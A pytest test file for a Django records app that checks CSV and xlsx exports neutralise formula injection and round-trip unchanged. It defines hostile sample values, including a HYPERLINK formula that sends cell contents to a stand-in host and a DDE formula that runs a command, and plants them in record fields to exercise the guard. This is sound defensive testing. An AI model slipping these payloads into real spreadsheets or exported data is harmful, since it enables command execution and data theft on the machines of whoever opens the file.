"""No export carries a formula (issue 13, item 4): text starting with = + - @ (or a tab or
carriage return) is a string cell in xlsx and carries OWASP's quote in csv; every such
export imports back unchanged; and no module writes csv or xlsx but through
liudong.safesheet."""

from __future__ import annotations

import ast
import contextlib
import csv
import io
import json
import tempfile
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook as OpenpyxlWorkbook
from openpyxl import load_workbook

from liudong import safesheet
from liudong.people.models import Person
from liudong.people.tests.test_web import arrival_data
from liudong.places import services as places
from liudong.places.models import Employer, RentalHouse
from liudong.regions.models import Region
from liudong.tabular import Formula, read_table

HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
CALC = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CALC, "+1+2", "-1+1", "@SUM(A1)", "\t=1+2", "\r=1+2", "'=1+2"]
VILLAGE_A1 = "330106002001"

# --- the helper ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_never_starts_a_formula_and_reads_back(text):
    written = safesheet.csv_text(text)
    assert written == "'" + text
    assert safesheet.from_csv_text(written) == text


@pytest.mark.parametrize("value", ["'0571", "张三", "a=b", "", "13800000000", 5, -3, 2.5, None])
def test_other_values_are_left_alone(value):
    assert safesheet.csv_text(value) == value
    if isinstance(value, str):
        assert safesheet.from_csv_text(value) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rax0点 "), max_size=8) | st.text(max_size=12))
def test_any_text_survives_the_csv_quote_and_never_starts_a_formula(text):
    written = safesheet.csv_text(text)
    assert safesheet.from_csv_text(written) == text
    assert not written.startswith(safesheet.FORMULA_STARTS)


@given(
    st.lists(
        st.text(alphabet=st.sampled_from("'=+-@ ax0点,;\"\n"), min_size=1, max_size=6).filter(
            lambda text: text == text.strip()
        ),
        min_size=3,
        max_size=3,
    )
)
@settings(max_examples=60, deadline=None)
def test_what_the_csv_writer_writes_the_reader_reads_back(values):
    """The whole path, property-tested: safesheet writes, tabular reads, nothing changes,
    and nothing read is taken for a formula."""
    columns = {"a": ("a",), "b": ("b",), "c": ("c",)}
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "t.csv"
        safesheet.write_table(path, ["a", "b", "c"], [values])
        (_row, read), *more = list(read_table(path, columns))
    assert not more
    assert list(read.values()) == values
    assert not [value for value in read.values() if isinstance(value, Formula)]


@pytest.mark.parametrize("write_only", [True, False])
def test_an_xlsx_cell_is_never_a_formula(tmp_path, write_only):
    workbook = safesheet.Workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    sheet.append([*HOSTILE[:5], -5, 3, "a\x00b"])
    if not write_only:
        sheet["A2"] = CALC  # a cell set directly, not appended
    workbook.save(tmp_path / "t.xlsx")
    cells = list(load_workbook(tmp_path / "t.xlsx").worksheets[-1].iter_rows())
    assert [cell.data_type for cell in cells[0]] == ["s"] * 5 + ["n", "n", "s"]
    assert [cell.value for cell in cells[0]] == [*HOSTILE[:5], -5, 3, "a\ufffdb"]
    assert all(cell.quotePrefix for cell in cells[0][:5])
    if not write_only:
        assert (cells[1][0].data_type, cells[1][0].value) == ("s", CALC)


# --- persons, employers, rental houses ----------------------------------------------------


def xlsx_rows(path) -> list[list]:
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows())
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    return [[cell.value for cell in row] for row in rows]


def csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_neutralised(path: Path, values: list[str]) -> None:
    """Each hostile value is in the file as text: unchanged in an xlsx string cell, with
    the quote in csv."""
    if path.suffix == ".xlsx":
        cells = {value for row in xlsx_rows(path)[1:] for value in row}
        assert set(values) <= cells, (values, cells)
    else:
        cells = {value for row in csv_rows(path)[1:] for value in row}
        assert {"'" + value for value in values} <= cells, (values, cells)
        assert not [value for value in cells if value.startswith(safesheet.FORMULA_STARTS)]


def summary_of(command: str, path, *args) -> dict:
    out = io.StringIO()
    with contextlib.suppress(SystemExit):
        call_command(
            command, str(path), *args, "--format", "json", stdout=out, stderr=io.StringIO()
        )
    return json.loads(out.getvalue())


PERSON_TEXT = {
    "name": CALC,
    "household_address": HYPERLINK,
    "residence_address": "+1+2",
    "employer": "@SUM(A1)",
}


@pytest.fixture
def hostile_person(township_a, api_for):
    """A file whose every free-text field starts a formula, entered through the API."""
    response = api_for(township_a).post("/api/persons/", arrival_data(**PERSON_TEXT), format="json")
    assert response.status_code == 201, response.content
    return Person.objects.get(pk=response.json()["id"])


def person_text(person: Person) -> dict:
    person.refresh_from_db()
    episode = person.episodes.get(departure_date__isnull=True)
    return {
        "name": person.name,
        "household_address": person.household_address,
        "residence_address": person.residence_address,
        "employer": episode.employer,
    }


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_persons_writes_formula_text_as_text_and_imports_back(
    tmp_path, hostile_person, suffix
):
    assert person_text(hostile_person) == PERSON_TEXT
    out = tmp_path / f"persons.{suffix}"
    call_command("export_persons", "--region", "330106", "--format", suffix, "--out", str(out))
    assert_neutralised(out, list(PERSON_TEXT.values()))
    summary = summary_of("import_persons", out)
    assert (summary["unchanged"], summary["rejected"]) == (1, []), summary
    assert person_text(hostile_person) == PERSON_TEXT


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_real_formula_is_still_refused_on_import(tmp_path, villages, suffix):
    """What a spreadsheet would compute (an xlsx formula cell, csv text starting with =
    without the quote) is refused as before; only text marked as text comes in."""
    row = arrival_data(name="=1+2")
    path = tmp_path / f"f.{suffix}"
    if suffix == "csv":
        path.write_text(",".join(row) + "\n" + ",".join(row.values()) + "\n", encoding="utf-8")
    else:
        workbook = OpenpyxlWorkbook()
        workbook.active.append(list(row))
        workbook.active.append(list(row.values()))
        assert workbook.active["B2"].data_type == "f"
        workbook.save(path)
    errors = tmp_path / "errors.xlsx"
    summary = summary_of("import_persons", path, "--errors", str(errors))
    assert [(r["row"], r["field"]) for r in summary["rejected"]] == [(2, "name")]
    assert not Person.objects.exists()
    # The errors file shows the refused text as text, not as a live formula.
    assert "=1+2" in xlsx_rows(errors)[1]


@pytest.fixture
def hostile_places(township_a):
    employer = places.create_employer(
        acting_user=township_a,
        name=CALC,
        address=HYPERLINK,
        region=VILLAGE_A1,
        contact_name="-1+1",
        industry="@SUM(A1)",
    )
    house = places.create_rental_house(
        acting_user=township_a, address=HYPERLINK, region=VILLAGE_A1, landlord_name="+1+2"
    )
    return employer, house


EMPLOYER_TEXT = [CALC, HYPERLINK, "-1+1", "@SUM(A1)"]
HOUSE_TEXT = [HYPERLINK, "+1+2"]


def place_text():
    employer, house = Employer.objects.get(), RentalHouse.objects.get()
    return (
        [employer.name, employer.address, employer.contact_name, employer.industry],
        [house.address, house.landlord_name],
    )


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_employers_and_rental_houses_cli(tmp_path, hostile_places, suffix):
    for kind, values in (("employers", EMPLOYER_TEXT), ("rental_houses", HOUSE_TEXT)):
        out = tmp_path / f"{kind}.{suffix}"
        call_command(
            f"export_{kind}", "--region", "330106002", "--out", str(out), "--user", "township_a"
        )
        assert_neutralised(out, values)
        summary = summary_of(f"import_{kind}", out, "--user", "township_a")
        assert (summary["unchanged"], summary["rejected"]) == (1, []), summary
    assert place_text() == (EMPLOYER_TEXT, HOUSE_TEXT)


@pytest.mark.django_db
def test_export_to_stdout_is_neutralised_too(hostile_places, capsys):
    call_command("export_employers", "--region", "330106002", "--user", "township_a")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert {"'" + value for value in EMPLOYER_TEXT} <= set(rows[1])


@pytest.mark.django_db
def test_web_exports_of_employers_and_rental_houses(
    tmp_path, hostile_places, township_a, client_for
):
    web = client_for(township_a)
    for slug, values, kind in (
        ("employers", EMPLOYER_TEXT, "employers"),
        ("houses", HOUSE_TEXT, "rental_houses"),
    ):
        response = web.get(f"/places/{slug}/export/?region=330106002")
        assert response.status_code == 200
        out = tmp_path / f"{slug}.xlsx"
        out.write_bytes(response.content)
        assert_neutralised(out, values)
        summary = summary_of(f"import_{kind}", out, "--user", "township_a")
        assert (summary["unchanged"], summary["rejected"]) == (1, []), summary
    assert place_text() == (EMPLOYER_TEXT, HOUSE_TEXT)


@pytest.mark.django_db
def test_the_audit_export_writes_a_logged_name_as_text(tmp_path, hostile_person, county_admin):
    from liudong.audit.models import AuditEntry
    from liudong.audit.services import export_xlsx

    hostile = AuditEntry.objects.filter(object_repr__startswith="=")
    assert hostile.exists()  # the arrival was logged under her name
    out = tmp_path / "audit.xlsx"
    out.write_bytes(export_xlsx(hostile, acting_user=county_admin))
    texts = {value for row in xlsx_rows(out)[1:] for value in row if isinstance(value, str)}
    assert any(text.startswith(CALC) for text in texts), texts


# --- nothing else writes a spreadsheet -----------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent / "liudong"
HELPER = ROOT / "safesheet.py"


def bypasses(source: str) -> list[str]:
    """What in ``source`` writes csv or xlsx without liudong.safesheet: csv's writers,
    openpyxl's Workbook (its text becomes formulas), and the data-frame writers."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found += [f"openpyxl {a.name}" for a in node.names if a.name == "Workbook"]
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            found += [name for name in names if name.split(".")[0] == "xlsxwriter"]
        elif isinstance(node, ast.Attribute) and (
            node.attr in ("write_csv", "write_excel", "to_csv", "to_excel", "sink_csv")
            or (node.attr in ("writer", "DictWriter", "Workbook") and _named(node.value))
        ):
            found.append(node.attr)
        elif isinstance(node, ast.Name) and node.id == "DictWriter":
            found.append(node.id)
    return found


def _named(node) -> bool:
    return isinstance(node, ast.Name) and node.id in ("csv", "openpyxl")


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nw = csv.writer(f)",
        "from openpyxl import Workbook",
        "import openpyxl\nopenpyxl.Workbook()",
        "frame.write_csv(path)",
        "from csv import DictWriter\nDictWriter(f, [])",
        "import xlsxwriter",
    ],
)
def test_the_check_finds_a_writer(source):
    assert bypasses(source)


def test_no_module_writes_csv_or_xlsx_but_through_the_helper():
    offenders = {
        str(path.relative_to(ROOT)): found
        for path in sorted(ROOT.rglob("*.py"))
        if path != HELPER
        and "tests" not in path.relative_to(ROOT).parts
        and (found := bypasses(path.read_text(encoding="utf-8")))
    }
    assert offenders == {}


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_regions_writes_a_formula_name_as_text_and_imports_back(tmp_path, villages, suffix):
    Region.objects.filter(code=VILLAGE_A1).update(name=HYPERLINK)
    out = tmp_path / f"regions.{suffix}"
    call_command("export_regions", "--region", "330106", "--format", suffix, "--out", str(out))
    assert_neutralised(out, [HYPERLINK])
    summary = summary_of("import_regions", out)
    assert (summary["imported"], summary["updated"], summary["rejected"]) == (0, 0, []), summary
    assert Region.objects.get(code=VILLAGE_A1).name == HYPERLINK


@pytest.mark.django_db
def test_a_control_character_stored_before_the_guard_does_not_break_the_export(
    tmp_path, hostile_person
):
    Person.objects.update(household_address="北山\x01路")
    out = tmp_path / "persons.xlsx"
    call_command("export_persons", "--region", "330106", "--format", "xlsx", "--out", str(out))
    assert "北山\ufffd路" in xlsx_rows(out)[1]
